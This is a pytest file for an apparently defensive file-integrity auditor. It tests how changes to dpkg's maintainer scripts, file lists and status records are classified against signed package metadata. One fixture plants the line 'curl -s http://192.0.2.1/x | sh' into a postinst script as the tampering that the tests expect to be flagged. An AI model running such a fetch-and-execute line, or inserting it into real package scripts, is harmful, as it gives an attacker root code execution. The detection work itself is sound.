"""What is said of dpkg's own files: each text is a change of one, what the signed package has, and what must be said."""

from dataclasses import replace

import pytest
from blake3 import blake3

from auditkit.derived import Known, records
from auditkit.explain import Account
from auditkit.model import Change, ChangeKind, Entry, Explanation, Kind, Level, Severity
from auditkit.packages import Shipped

KEY, OLD, NEW = "demo:amd64", "1", "2"
POSTINST = "#!/bin/sh\nldconfig\n"
CONFIG = "#!/bin/sh\n. /usr/share/debconf/confmodule\n"
PLANTED = POSTINST + "curl -s http://192.0.2.1/x | sh\n"
LIST = "/.\n/usr\n/usr/bin\n/usr/bin/demo\n/etc/demo.conf\n"
KEPT = {
    "preinst": "#!/bin/sh\nset -e\n",
    "postinst": POSTINST,
    "config": CONFIG,
    "list": LIST,
    "conffiles": "/etc/demo.conf\n",
    "md5sums": "0123456789abcdef0123456789abcdef  usr/bin/demo\n",
}
LOGGED = {(KEY, NEW): "2026-11-20 10:12", (KEY, OLD): "2026-10-20 10:12"}


def digest(text: str) -> str:
    return f"blake3:{blake3(text.encode()).hexdigest()}"


def account(proof: str = "signed", now: str = NEW) -> Account:
    control = tuple(Shipped(name, Kind.FILE, size=len(text), digests=(digest(text),)) for name, text in KEPT.items())
    known = Account({KEY: OLD}, {KEY: now}, doers=LOGGED)
    return replace(known, vouched={("dpkg", KEY, known.installed[KEY])}, control={KEY: control}) if proof == "signed" else known


def told(name: str, text: str, known: Account, was: str | None = "other\n") -> tuple[str, Severity, str, str | None]:
    """Rule, severity, note and proof of a change of this file of dpkg, whose level and severity are those of a policy."""
    path = f"/var/lib/dpkg/{name}"

    def entry(held: str) -> Entry:
        who = (0o755, 0, 0, "root", "root")
        return Entry(path, Kind.FILE, *who, len(held), 1, 1, 1, 7, 1, digests=(digest(held),), flags="", xattrs=())

    same = was == text
    attributes = ("mtime", "ctime") if same else ("digest", "mtime")
    change = Change(
        path,
        ChangeKind.CHANGED if was is not None else ChangeKind.ADDED,
        None if was is None else entry(was),
        entry(text),
        () if was is None else attributes,
        Severity.MEDIUM,
        Level.CONTENT,
        "content-changed",
    )
    host = Known({path: change}, known)
    records.judge(host)
    after = host.changes[path]
    proof = after.explanation.proof if after.explanation else None
    return after.rule, after.severity, after.note, proof


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("info/demo.postinst", POSTINST),
        ("info/demo.preinst", "#!/bin/sh\nset -e\n"),
        ("info/demo.config", CONFIG),
        ("info/demo:amd64.postinst", POSTINST),
        ("info/demo.list", LIST),
        ("info/demo.conffiles", "/etc/demo.conf\n"),
        ("info/demo.md5sums", KEPT["md5sums"]),
    ],
)
def test_what_the_signed_package_has_is_proved(name: str, text: str) -> None:
    assert told(name, text, account())[3] == "signed"


@pytest.mark.parametrize("text", [PLANTED, "", POSTINST[:-1], KEPT["preinst"], "#!/bin/sh\n"])
def test_a_script_that_is_not_that_of_the_signed_package_is_worse(text: str) -> None:
    """It runs as root at the next upgrade."""
    assert told("info/demo.postinst", text, account()) == (records.SCRIPT.id, Severity.HIGH, records.SCRIPT.title, None)


@pytest.mark.parametrize("known", [account(now=OLD), account("local", now=OLD), replace(account(), before={}, installed={})])
@pytest.mark.parametrize("was", ["other\n", None])
def test_a_script_that_changed_or_came_without_an_upgrade_is_worse(known: Account, was: str | None) -> None:
    rule, severity, _note, proof = told("info/demo.postinst", PLANTED, known, was)
    assert (rule, severity, proof) == (records.SCRIPT.id, Severity.HIGH, None)


def test_a_script_of_an_upgrade_that_no_vendor_vouches_for_is_left_as_it_is_and_says_what_it_does() -> None:
    expected = ("content-changed", Severity.MEDIUM, records.UNPROVED, None)
    assert told("info/demo.postinst", PLANTED, account("local")) == expected


def test_a_script_of_no_package_is_worse_though_others_were_upgraded() -> None:
    assert told("info/planted.prerm", PLANTED, account(), None)[:2] == (records.SCRIPT.id, Severity.HIGH)


@pytest.mark.parametrize(("name", "text"), [("info/demo.list", LIST + "/tmp/x\n"), ("info/demo.md5sums", "")])
def test_what_is_not_that_of_the_signed_package_is_no_record(name: str, text: str) -> None:
    """Who plants a file may have its package own it."""
    assert told(name, text, account()) == ("content-changed", Severity.MEDIUM, records.OTHER, None)
    assert told(name, text, account("local")) == (records.RECORD.id, Severity.LOW, "", None)


def test_what_was_written_again_with_what_it_held_is_explained_where_its_package_changed() -> None:
    assert told("info/demo.prerm", PLANTED, account("local"), PLANTED)[3] == "local"
    assert told("info/other.prerm", PLANTED, account("local"), PLANTED)[3] is None


def gone(kind: str, known: Account) -> str | None:
    """The proof of a file of dpkg's database that is gone."""
    path = f"/var/lib/dpkg/info/demo.{kind}"
    before = Entry(path, Kind.FILE, 0o755, 0, 0, size=1, digests=("blake3:00",))
    change = Change(path, ChangeKind.REMOVED, before, None, (), Severity.MEDIUM, Level.CONTENT, "path-removed")
    host = Known({path: change}, known)
    records.judge(host)
    explanation = host.changes[path].explanation
    return explanation.proof if explanation else None


def test_a_file_of_dpkg_s_that_is_gone_though_its_package_has_it_is_left() -> None:
    """Without its sums nobody sees what was done to the files; without its script nothing is cleared away."""
    assert (gone("md5sums", account()), gone("postinst", account())) == (None, None)
    assert (gone("prerm", account()), gone("prerm", account("local"))) == ("signed", "local")
    assert gone("prerm", account("local", now=OLD)) is None


def test_a_package_that_is_only_in_the_status_file_makes_no_record_regular() -> None:
    """Whoever invents one changes the status file, and may change what he likes beside it."""
    for known in (account(), account("local")):
        invented = replace(known, installed={KEY: NEW, "fake:all": "1"})
        assert told("status", "x", invented)[:2] == ("content-changed", Severity.MEDIUM)
    made_up = replace(account(), installed={KEY: "9"}, vouched={("dpkg", "other:all", "1")})
    assert told("status", "x", made_up)[:2] == ("content-changed", Severity.MEDIUM)


def test_an_old_configuration_for_other_eyes_is_left() -> None:
    """What only root could read may be put where everybody can, beside the file that an upgrade wrote anew."""
    mine = Entry("/etc/x", Kind.FILE, 0o600, 0, 0, size=1, digests=("blake3:00",), flags="", xattrs=())
    new = replace(mine, digests=("blake3:01",))
    settled = Explanation("package", "demo 1 → 2", "signed")
    change = Change("/etc/x", ChangeKind.CHANGED, mine, new, ("digest",), Severity.HIGH, Level.CONTENT, "content-changed")
    for mode, proof in ((0o600, "signed"), (0o644, None)):
        old = replace(mine, path="/etc/x.dpkg-old", mode=mode)
        added = replace(change, path=old.path, change=ChangeKind.ADDED, before=None, after=old, attributes=())
        host = Known({"/etc/x": replace(change, explanation=settled), old.path: added}, account())
        records.judge(host)
        explanation = host.changes[old.path].explanation
        assert (explanation.proof if explanation else None) == proof


@pytest.mark.parametrize("name", ["status", "status-old", "triggers/File", "info/demo.shlibs"])
def test_records_are_called_so_where_packages_changed_and_nowhere_else(name: str) -> None:
    assert told(name, "x", account())[:2] == (records.RECORD.id, Severity.LOW)
    assert told(name, "x", account(now=OLD))[:2] == ("content-changed", Severity.MEDIUM)


@pytest.mark.parametrize("name", ["diversions", "statoverride", "alternatives/vi", "info/../x", "info/format"])
def test_what_may_hide_a_change_is_no_record(name: str) -> None:
    assert told(name, "x", account())[:2] == ("content-changed", Severity.MEDIUM)
